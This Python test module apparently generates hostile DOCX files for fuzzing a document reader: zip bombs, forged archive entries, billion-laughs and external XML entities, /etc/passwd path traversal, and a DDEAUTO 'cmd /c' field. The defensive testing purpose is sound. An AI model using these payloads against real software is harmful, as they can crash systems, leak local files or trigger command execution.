"""DOCX: archives that unpack without end, entities, things that lie elsewhere, structures that cost much."""

from __future__ import annotations

import io
import struct
import zipfile

from evals.fuzz.specimens.archives import SHOWN, W, around, docx, paragraphs, relations
from evals.fuzz.specimens.base import READ, Aim, Specimen
from evals.fuzz.specimens.packing import Repeated, archive

_CORE = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
_HEAD = relations(("officeDocument", "word/document.xml", False), (_CORE, "docProps/core.xml", False))
_FOOTNOTES = {"word/_rels/document.xml.rels": relations(("footnotes", "footnotes.xml", False))}


def _laughs(name: str = "w:document") -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {name} [<!ENTITY l0 "canary">{entities}]>'


def _outside(aim: Aim, name: str = "w:document") -> str:
    return (
        f'<!DOCTYPE {name} SYSTEM "{aim.url}/dtd" [<!ENTITY f SYSTEM "{aim.file}"><!ENTITY u SYSTEM "{aim.url}/entity">'
        f'<!ENTITY % p SYSTEM "{aim.url}/parameter">%p;<!ENTITY l9 SYSTEM "{aim.file}">]>'
    )


def _part(block: str, times: int) -> bytes:
    """A DOCX whose main part says something again and again."""
    head, tail = around(SHOWN)
    return docx(Repeated((block * 1_000).encode(), times // 1_000, tail.encode(), head.encode()))


def _bomb(aim: Aim) -> bytes:
    """One part of 300 MB of blanks from 300 kB."""
    return _part(" " * 1_000, 300_000)


def _media_bomb(aim: Aim) -> bytes:
    """Twelve pictures of 100 MB each from a megabyte."""
    blob = Repeated(bytes(1_000_000), 100)
    kinds = relations(*(("image", f"media/{n}.bin", False) for n in range(12)))
    return docx(
        paragraphs(SHOWN), {"word/_rels/document.xml.rels": kinds, **{f"word/media/{n}.bin": blob for n in range(12)}}
    )


def _lying_bomb(aim: Aim) -> bytes:
    """An entry of 50 MB that says it has ten bytes."""
    made = _part(" " * 1_000, 50_000)
    with zipfile.ZipFile(io.BytesIO(made)) as held:
        true = struct.pack("<I", held.getinfo("word/document.xml").file_size)
    return made.replace(true, struct.pack("<I", 10))


def _many_entries(aim: Aim) -> bytes:
    return docx(paragraphs(SHOWN), {f"word/media/{n}.bin": b"" for n in range(12_000)})


def _nested(aim: Aim) -> bytes:
    inner = docx(paragraphs("canary"))
    for _ in range(20):
        inner = docx(paragraphs("canary"), {"word/embeddings/inner.docx": inner})
    return docx(paragraphs(SHOWN), {"word/embeddings/inner.docx": inner})


def _mimetype_bomb(aim: Aim) -> bytes:
    """What tells an OpenDocument apart is looked at before anything else."""
    return archive({"mimetype": Repeated(bytes(1_000_000), 600)})


def _overlapping(aim: Aim) -> bytes:
    """Two thousand names of one and the same packed part."""
    blob = bytes(1_000_000)
    made = docx(paragraphs(SHOWN), {"word/media/a.bin": blob})
    place = made.rindex(b"PK\x01\x02", 0, made.rindex(b"word/media/a.bin"))
    start = made.index(b"PK\x01\x02")
    end = made.rindex(b"PK\x05\x06")
    entry = made[place:end]
    entries = made[start:end] + entry * 2_000
    count = entries.count(b"PK\x01\x02")
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(entries), start, 0)
    return made[:start] + entries + tail


def _elsewhere(aim: Aim) -> bytes:
    """A template, an object, a picture, frames and a link that all lie elsewhere."""
    kinds = (
        "attachedTemplate",
        "oleObject",
        "image",
        "hyperlink",
        "frame",
        "subDocument",
        "aFChunk",
        "externalLinkPath",
    )
    found = [(kind, target, True) for kind in kinds for target in (aim.url, aim.file)]
    inside = [("image", "../../../../../../etc/passwd", False), ("image", "file:///etc/passwd", True)]
    body = '<w:altChunk r:id="rId13"/><w:subDoc r:id="rId11"/>'
    body += '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>länk</w:t></w:r></w:hyperlink></w:p>'
    return docx(paragraphs(SHOWN, body=body), {"word/_rels/document.xml.rels": relations(*found, inside[1])})


def _upwards(aim: Aim) -> bytes:
    """Relations to parts above the archive."""
    up = relations(("image", "../../../../../../etc/passwd", False), ("footnotes", "/../../etc/hosts", False))
    return docx(
        paragraphs(SHOWN), {"word/_rels/document.xml.rels": up, "../../evil.xml": "canary", "/etc/evil": "canary"}
    )


def _fields(aim: Aim) -> bytes:
    """Fields that fetch when they are brought up to date."""
    told = (f'INCLUDETEXT "{aim.file}"', f'INCLUDEPICTURE "{aim.url}"', f'DDEAUTO "cmd" "/c {aim.url}"')
    body = "".join(
        f'<w:p><w:fldSimple w:instr="{one.replace(chr(34), "&quot;")}"><w:r><w:t>fält</w:t></w:r></w:fldSimple></w:p>'
        for one in told
    )
    return docx(paragraphs(SHOWN, body=body))


def _in_core(aim: Aim, head: str, entity: str) -> bytes:
    core = (
        f'<?xml version="1.0"?>{head}<cp:coreProperties xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties">'
        f"<dc:title>&{entity};</dc:title></cp:coreProperties>"
    )
    return docx(paragraphs(SHOWN), {"_rels/.rels": _HEAD, "docProps/core.xml": core})


def _in_notes(aim: Aim) -> bytes:
    notes = (
        f'<?xml version="1.0"?>{_outside(aim, "w:footnotes")}<w:footnotes xmlns:w="{W}"><w:footnote w:id="2">'
        "<w:p><w:r><w:t>&f;&u;</w:t></w:r></w:p></w:footnote></w:footnotes>"
    )
    body = '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
    return docx(paragraphs(SHOWN, body=body), {**_FOOTNOTES, "word/footnotes.xml": notes})


def _in_relations(aim: Aim) -> bytes:
    rows = relations(("officeDocument", "word/document.xml", False)).replace(
        "?>", f"?>{_outside(aim, 'Relationships')}", 1
    )
    return docx(paragraphs(SHOWN), {"_rels/.rels": rows})


def _many_notes(aim: Aim) -> bytes:
    """Ten thousand references to as many notes."""
    numbers = range(10_000)
    body = "<w:p><w:r>" + "".join(f'<w:footnoteReference w:id="{n}"/>' for n in numbers) + "</w:r></w:p>"
    notes = "".join(f'<w:footnote w:id="{n}"><w:p/></w:footnote>' for n in numbers)
    made = f'<?xml version="1.0"?><w:footnotes xmlns:w="{W}">{notes}</w:footnotes>'
    return docx(paragraphs(SHOWN, body=body), {**_FOOTNOTES, "word/footnotes.xml": made})


def _heavy_style(aim: Aim) -> bytes:
    """Twenty styles based on one another in a ring, each with thousands of properties, asked for by each paragraph."""
    styles = "".join(
        f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 20}"/>{"<w:pPr/>" * 2_000}</w:style>'
        for n in range(20)
    )
    made = f'<?xml version="1.0"?><w:styles xmlns:w="{W}">{styles}</w:styles>'
    body = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>rad</w:t></w:r></w:p>' * 4_000
    found = {"word/_rels/document.xml.rels": relations(("styles", "styles.xml", False)), "word/styles.xml": made}
    return docx(paragraphs(SHOWN, body=body), found)


def _deep(depth: int, name: str) -> str:
    return paragraphs(SHOWN, body=f"<w:{name}>" * depth + f"</w:{name}>" * depth)


def _tables(aim: Aim) -> bytes:
    """Tables in tables, fifty deep, with many paragraphs in the innermost."""
    inner = "<w:p><w:r><w:t>rad</w:t></w:r></w:p>" * 5_000
    body = "<w:tbl><w:tr><w:tc>" * 50 + inner + "</w:tc></w:tr></w:tbl>" * 50
    return docx(paragraphs(SHOWN, body=body))


def _elements(aim: Aim) -> bytes:
    """Three million empty elements in a part below the limit of size."""
    return _part("<w:p/>", 3_000_000)


DOCX: tuple[Specimen, ...] = (
    Specimen("bomb.docx", _bomb, "unpacks to more than"),
    Specimen("media_bomb.docx", _media_bomb, "unpacks to more than"),
    Specimen("lying_bomb.docx", _lying_bomb, "damaged"),
    Specimen("entries_12000.docx", _many_entries, "12,0"),
    Specimen("nested.docx", _nested, READ, SHOWN),
    Specimen("mimetype_bomb.odt", _mimetype_bomb, "archive"),
    Specimen("overlapping.docx", _overlapping, None),
    Specimen("laughs.docx", lambda aim: docx(paragraphs("&l9;", SHOWN, before=_laughs())), None),
    Specimen("laughs_in_title.docx", lambda aim: _in_core(aim, _laughs("cp:coreProperties"), "l9"), None),
    Specimen("entities.docx", lambda aim: docx(paragraphs("&f;&u;", SHOWN, before=_outside(aim))), None),
    Specimen("entities_in_title.docx", lambda aim: _in_core(aim, _outside(aim, "cp:coreProperties"), "f"), None),
    Specimen("entities_in_notes.docx", _in_notes, None),
    Specimen("entities_in_relations.docx", _in_relations, None),
    Specimen("elsewhere.docx", _elsewhere, READ, SHOWN),
    Specimen("upwards.docx", _upwards, None),
    Specimen("fields.docx", _fields, READ, SHOWN),
    Specimen("notes_10000.docx", _many_notes, READ, SHOWN),
    Specimen("heavy_style.docx", _heavy_style, READ, SHOWN),
    Specimen("deep_200.docx", lambda aim: docx(_deep(200, "sdt")), READ, SHOWN),
    Specimen("deep_100000.docx", lambda aim: docx(_deep(100_000, "ins")), "damaged"),
    Specimen("tables_50_deep.docx", _tables, READ, SHOWN),
    Specimen("elements.docx", _elements, None),
    Specimen("no_document.docx", lambda aim: docx("<not xml"), "damaged"),
    Specimen("cut_short.docx", lambda aim: docx(paragraphs(SHOWN))[:-30], "damaged"),
)
